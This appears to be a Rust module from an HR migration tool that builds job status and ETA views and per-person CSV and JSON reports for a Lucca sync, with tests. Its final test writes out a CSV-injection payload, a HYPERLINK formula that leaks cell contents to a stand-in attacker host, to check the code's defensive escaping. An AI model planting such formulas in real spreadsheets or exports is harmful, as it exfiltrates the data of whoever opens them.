//! What the admin API shows of a job: its status with counts, progress and ETA, and the
//! per-person report (JSON or CSV). Pure functions of stored records.

use std::collections::BTreeMap;

use serde::Serialize;

use super::model::{Class, FieldChange, Finding, JobStatus, PersonRow};
use crate::store::{MigrationClassCount, MigrationJobRecord, MigrationRowRecord};

/// Lucca requests per person to write: the re-check, then the write itself.
pub const REQUESTS_PER_WRITE: u64 = 2;

#[derive(Debug, Clone, Serialize)]
pub struct Progress {
    pub processed: i64,
    pub total: i64,
    pub percent: f64,
}

#[derive(Debug, Clone, Serialize)]
pub struct Eta {
    /// Lucca requests the job still has to make (a lower bound: sign-ins go first and other
    /// integrations share the tenant's budget).
    pub requests_left: u64,
    pub requests_per_minute: u32,
    pub seconds: u64,
    /// The same, for people: "3m 20s".
    pub text: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct JobView {
    pub id: String,
    pub status: JobStatus,
    pub dry_run: bool,
    pub notify: bool,
    pub created_at: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub started_at: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub finished_at: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
    pub progress: Progress,
    /// Outcomes of the rows done so far, by class.
    pub counts: BTreeMap<&'static str, i64>,
    /// Rows not done yet, by planned class (`will_create`, `will_update`; `unplanned` before
    /// Lucca has been read).
    pub pending: BTreeMap<&'static str, i64>,
    /// `null` once the job has finished.
    pub eta: Option<Eta>,
    pub report_url: String,
}

fn timestamp(unix: i64) -> String {
    chrono::DateTime::from_timestamp(unix, 0)
        .map(|t| t.to_rfc3339_opts(chrono::SecondsFormat::Secs, true))
        .unwrap_or_default()
}

/// Requests left and the time they take at `requests_per_minute`: each pending write costs
/// a re-check and the write, and rows not planned yet still need the bulk read of Lucca (one
/// request per 1000 people, the file's size standing in for the tenant's).
pub fn estimate(writes_left: u64, unplanned_rows: u64, requests_per_minute: u32) -> Eta {
    let reads = if unplanned_rows > 0 {
        unplanned_rows.div_ceil(1000) + 1
    } else {
        0
    };
    let requests_left = writes_left * REQUESTS_PER_WRITE + reads;
    let rpm = u64::from(requests_per_minute.max(1));
    let seconds = (requests_left * 60).div_ceil(rpm);
    Eta {
        requests_left,
        requests_per_minute: requests_per_minute.max(1),
        seconds,
        text: human_duration(seconds),
    }
}

fn human_duration(seconds: u64) -> String {
    match seconds {
        0 => "0s".into(),
        s if s < 60 => format!("{s}s"),
        s if s < 3600 => format!("{}m {}s", s / 60, s % 60),
        s => format!("{}h {}m", s / 3600, (s % 3600) / 60),
    }
}

pub fn job_view(
    job: &MigrationJobRecord,
    counts: &[MigrationClassCount],
    requests_per_minute: u32,
    report_url: String,
) -> JobView {
    let status = JobStatus::parse(&job.status).unwrap_or(JobStatus::Failed);
    let mut done_counts = BTreeMap::new();
    let mut pending = BTreeMap::new();
    let mut processed = 0;
    let mut writes_left = 0u64;
    let mut unplanned = 0u64;
    for c in counts {
        let class = c.class.as_deref().and_then(Class::parse);
        if c.done {
            processed += c.count;
            if let Some(class) = class {
                *done_counts.entry(class.as_str()).or_insert(0) += c.count;
            }
            continue;
        }
        let name = class.map_or("unplanned", Class::as_str);
        *pending.entry(name).or_insert(0) += c.count;
        match class {
            Some(Class::WillCreate | Class::WillUpdate) => writes_left += c.count as u64,
            None => unplanned += c.count as u64,
            Some(_) => {}
        }
    }
    let percent = if job.total > 0 {
        (processed as f64 * 1000.0 / job.total as f64).round() / 10.0
    } else {
        100.0
    };
    let writes_left = if job.dry_run { 0 } else { writes_left };
    JobView {
        id: job.id.clone(),
        status,
        dry_run: job.dry_run,
        notify: job.notify,
        created_at: timestamp(job.created_at),
        started_at: job.started_at.map(timestamp),
        finished_at: job.finished_at.map(timestamp),
        error: job.error.clone(),
        progress: Progress {
            processed,
            total: job.total,
            percent,
        },
        counts: done_counts,
        pending,
        eta: (!status.is_finished()).then(|| estimate(writes_left, unplanned, requests_per_minute)),
        report_url,
    }
}

/// One person in the report.
#[derive(Debug, Clone, Serialize)]
pub struct ReportRow {
    pub row: i64,
    pub email: String,
    /// The outcome; for a row not done (job running, cancelled or failed), what was planned.
    pub class: Option<Class>,
    pub done: bool,
    /// The owned fields set (or to set), by name.
    pub fields: Vec<String>,
    pub changes: Vec<FieldChange>,
    pub lucca_id: Option<i64>,
    pub message: Option<String>,
    /// Every finding, most important first (the first is `class`): Lucca's own refusal of
    /// this person comes before a directory finding, which is still listed.
    pub findings: Vec<Finding>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub notification: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub input: Option<PersonRow>,
}

pub fn report_rows(rows: &[MigrationRowRecord], status: JobStatus) -> Vec<ReportRow> {
    rows.iter()
        .map(|r| {
            let changes: Vec<FieldChange> = r
                .fields
                .as_deref()
                .and_then(|f| serde_json::from_str(f).ok())
                .unwrap_or_default();
            let mut message = r.message.clone();
            if !r.done && status.is_finished() {
                let why = match status {
                    JobStatus::Cancelled => "not applied: the job was cancelled",
                    _ => "not applied: the job stopped",
                };
                message = Some(match message {
                    Some(m) => format!("{m}; {why}"),
                    None => why.to_string(),
                });
            }
            let class = r.class.as_deref().and_then(Class::parse);
            let findings = r
                .findings
                .as_deref()
                .and_then(|f| serde_json::from_str(f).ok())
                .unwrap_or_else(|| {
                    // Rows refused at upload, and rows from before findings were kept.
                    class
                        .map(|class| Finding {
                            class,
                            message: r.message.clone(),
                        })
                        .into_iter()
                        .collect()
                });
            ReportRow {
                row: r.row_no,
                email: r.email.clone(),
                class,
                done: r.done,
                fields: changes.iter().map(|c| c.field.clone()).collect(),
                changes,
                lucca_id: r.lucca_id.filter(|id| *id > 0),
                message,
                findings,
                notification: r.notice.clone(),
                input: serde_json::from_str(&r.input).ok(),
            }
        })
        .collect()
}

/// A cell as written to the CSV report. Cells come from the upload and from Lucca, and the report
/// is opened in a spreadsheet: one that starts with `=`, `+`, `-`, `@`, a tab or a carriage
/// return would run as a formula (`=HYPERLINK(…)` exfiltrating the sheet), so it gets a leading
/// `'`, which spreadsheets show as text (OWASP, "CSV Injection").
pub fn csv_cell(value: &str) -> std::borrow::Cow<'_, str> {
    match value.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{value}").into(),
        _ => value.into(),
    }
}

/// A CSV file of `header` and `rows`, every cell through [`csv_cell`]: the one writer of every
/// CSV Passerelle hands out (this report, the console's audit export).
pub fn safe_csv<R, C>(header: &[&str], rows: R) -> Result<Vec<u8>, csv::Error>
where
    R: IntoIterator<Item = C>,
    C: IntoIterator<Item = String>,
{
    let mut out = csv::Writer::from_writer(Vec::new());
    out.write_record(header)?;
    for row in rows {
        out.write_record(row.into_iter().map(|c| csv_cell(&c).into_owned()))?;
    }
    out.into_inner().map_err(|e| e.into_error().into())
}

/// The report as CSV: `row,email,class,fields,lucca_id,message,findings,changes` (fields and
/// findings separated by `;`; `changes` says `field: before → after` for each field, separated
/// by ` | ` since values may hold `;` — the JSON twin has them structured). Every cell through
/// [`csv_cell`].
pub fn report_csv(rows: &[ReportRow]) -> Result<Vec<u8>, csv::Error> {
    safe_csv(
        &[
            "row", "email", "class", "fields", "lucca_id", "message", "findings", "changes",
        ],
        rows.iter().map(|r| {
            let mut message = r.message.clone().unwrap_or_default();
            if let Some(n) = &r.notification {
                if !message.is_empty() {
                    message.push_str("; ");
                }
                message.push_str(&format!("email: {n}"));
            }
            [
                r.row.to_string(),
                r.email.clone(),
                r.class.map(Class::as_str).unwrap_or("pending").to_string(),
                r.fields.join(";"),
                r.lucca_id.map(|i| i.to_string()).unwrap_or_default(),
                message,
                r.findings
                    .iter()
                    .map(|f| f.class.as_str())
                    .collect::<Vec<_>>()
                    .join(";"),
                r.changes
                    .iter()
                    .map(|c| {
                        format!(
                            "{}: {} → {}",
                            c.field,
                            c.from.as_deref().unwrap_or("(none)"),
                            c.to
                        )
                    })
                    .collect::<Vec<_>>()
                    .join(" | "),
            ]
        }),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn job(status: &str, dry_run: bool) -> MigrationJobRecord {
        MigrationJobRecord {
            id: "j".into(),
            dry_run,
            notify: false,
            status: status.into(),
            total: 10,
            created_at: 1_700_000_000,
            started_at: Some(1_700_000_001),
            finished_at: None,
            error: None,
        }
    }

    fn count(class: Option<&str>, done: bool, count: i64) -> MigrationClassCount {
        MigrationClassCount {
            class: class.map(str::to_owned),
            done,
            count,
        }
    }

    #[test]
    fn the_eta_counts_two_requests_per_write_at_the_rate_limit() {
        let view = job_view(
            &job("running", false),
            &[
                count(Some("ready"), true, 3),
                count(Some("created"), true, 2),
                count(Some("will_create"), false, 20),
                count(Some("will_update"), false, 5),
            ],
            50,
            "/r".into(),
        );
        assert_eq!(view.progress.processed, 5);
        assert_eq!(view.progress.percent, 50.0);
        assert_eq!(view.counts["ready"], 3);
        assert_eq!(view.pending["will_create"], 20);
        let eta = view.eta.unwrap();
        assert_eq!(eta.requests_left, 50);
        assert_eq!(eta.seconds, 60);
        assert_eq!(eta.text, "1m 0s");
        assert_eq!(view.created_at, "2023-11-14T22:13:20Z");
    }

    #[test]
    fn a_queued_job_still_has_to_read_lucca_and_a_finished_one_has_no_eta() {
        let view = job_view(
            &job("queued", true),
            &[count(None, false, 10)],
            50,
            "/r".into(),
        );
        assert_eq!(view.eta.unwrap().requests_left, 2);
        assert_eq!(view.pending["unplanned"], 10);
        let done = job_view(
            &job("done", true),
            &[count(Some("ready"), true, 10)],
            50,
            "/r".into(),
        );
        assert!(done.eta.is_none());
        assert_eq!(estimate(0, 0, 50).seconds, 0);
        assert_eq!(estimate(1500, 0, 50).text, "1h 0m");
    }

    #[test]
    fn the_csv_report_has_one_line_per_person() {
        let rows = vec![MigrationRowRecord {
            row_no: 2,
            seq: 0,
            email: "a@acme.test".into(),
            input: r#"{"email":"a@acme.test"}"#.into(),
            class: Some("will_update".into()),
            fields: Some(
                r#"[{"field":"family_name","from":"X","to":"Y"},{"field":"department","to":"Sales, Paris"}]"#
                    .into(),
            ),
            lucca_id: Some(7),
            message: None,
            done: false,
            write_started_at: None,
            notice: None,
            findings: None,
        }];
        let report = report_rows(&rows, JobStatus::Cancelled);
        assert_eq!(report[0].fields, ["family_name", "department"]);
        let text = String::from_utf8(report_csv(&report).unwrap()).unwrap();
        assert_eq!(
            text,
            "row,email,class,fields,lucca_id,message,findings,changes\n2,a@acme.test,will_update,family_name;department,7,not applied: the job was cancelled,will_update,\"family_name: X → Y | department: (none) → Sales, Paris\"\n"
        );
    }

    #[test]
    fn every_finding_is_reported_most_important_first() {
        let rows = vec![MigrationRowRecord {
            row_no: 5,
            seq: 0,
            email: "david@acme.test".into(),
            input: r#"{"email":"david@acme.test"}"#.into(),
            class: Some("leaver".into()),
            fields: None,
            lucca_id: Some(4),
            message: Some("contract ended on 2022-12-31; not in the directory".into()),
            done: true,
            write_started_at: None,
            notice: None,
            findings: Some(
                r#"[{"class":"leaver","message":"contract ended on 2022-12-31"},{"class":"not_in_directory","message":"not in the directory"}]"#
                    .into(),
            ),
        }];
        let report = report_rows(&rows, JobStatus::Done);
        let json = serde_json::to_value(&report[0]).unwrap();
        assert_eq!(json["class"], "leaver");
        assert_eq!(json["findings"][0]["class"], "leaver");
        assert_eq!(json["findings"][1]["class"], "not_in_directory");
        assert_eq!(json["findings"][1]["message"], "not in the directory");
        let text = String::from_utf8(report_csv(&report).unwrap()).unwrap();
        assert!(
            text.ends_with(
                ",4,contract ended on 2022-12-31; not in the directory,leaver;not_in_directory,\n"
            ),
            "{text}"
        );
    }

    /// Finding 8: a person named `=HYPERLINK(…)` (and an email and a Lucca message that echo
    /// it) must not become a formula in the spreadsheet that opens the report.
    #[test]
    fn formula_cells_are_neutralised_in_the_csv_report() {
        let formula = r#"=HYPERLINK("https://evil.example/?leak="&A1,"Click")"#;
        let rows = vec![MigrationRowRecord {
            row_no: 2,
            seq: 0,
            email: format!("{formula}@acme.test"),
            input: serde_json::json!({ "email": "x@acme.test", "given_name": formula }).to_string(),
            class: Some("invalid_row".into()),
            fields: None,
            lucca_id: None,
            message: Some(format!("{formula} is not a valid first name")),
            done: true,
            write_started_at: None,
            notice: None,
            findings: None,
        }];
        let csv = report_csv(&report_rows(&rows, JobStatus::Done)).unwrap();
        let mut reader = csv::Reader::from_reader(csv.as_slice());
        let record = reader.records().next().unwrap().unwrap();
        assert_eq!(&record[1], format!("'{formula}@acme.test"));
        assert_eq!(&record[5], format!("'{formula} is not a valid first name"));
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell}"
            );
        }
        for (raw, written) in [
            ("+33 1 23", "'+33 1 23"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(csv_cell(raw), written);
        }
    }
}
